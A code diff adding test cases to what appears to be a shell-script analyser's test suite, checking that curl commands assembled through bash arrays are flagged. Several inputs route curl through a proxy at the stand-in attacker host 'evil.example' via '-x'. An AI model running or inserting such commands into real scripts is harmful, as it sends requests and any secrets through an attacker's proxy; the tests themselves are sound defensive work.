@@ -1162,6 +1162,32 @@ describe('who may get the header', () => {
         /^unknown 0: (?:xargs|watch) may change the arguments of its command$/,
         /^unknown 0: (?:xargs|watch) may change the arguments of its command$/,
       ]),
+      ...[
+        `cmd=(curl -s ${url})\n"\${cmd[@]}" -x http://evil.example\n`,
+        `cmd+=(env A=b curl ${url}\n  -s # it's\n)\n`,
+        `local -a cmd=( # x\n  curl\n  -s\n  ${url}\n)\n`,
+        `x="$(cmd=(curl\n ${url}); "\${cmd[@]}")"\n`,
+      ].map((script): Row => [
+        'an array to which the script may add',
+        posixFormat,
+        script,
+        /unknown \d: cmd=\(…\) may change the arguments of its command$/,
+        /unknown \d: cmd=\(…\) may change the arguments of its command$/,
+      ]),
+      [
+        'an option on a further line of an array',
+        posixFormat,
+        `cmd=(\n  curl ${url}\n  -x http://evil.example\n)\n`,
+        /unknown 1: it has -x$/,
+        /unknown 1: it has -x$/,
+      ],
+      ...[`[[ a =~ x=(b|c) ]] && curl ${url}`, `a=(b\n  c)\ncurl ${url}`].map((command): Row => [
+        'a command after an array',
+        posixFormat,
+        `${command}\n`,
+        /changed 1$/,
+        /changed 1$/,
+      ]),
       ...['sudo', 'timeout 5', 'time', 'env A=b'].map((command): Row => [
         'a command that keeps the words',
         posixFormat,
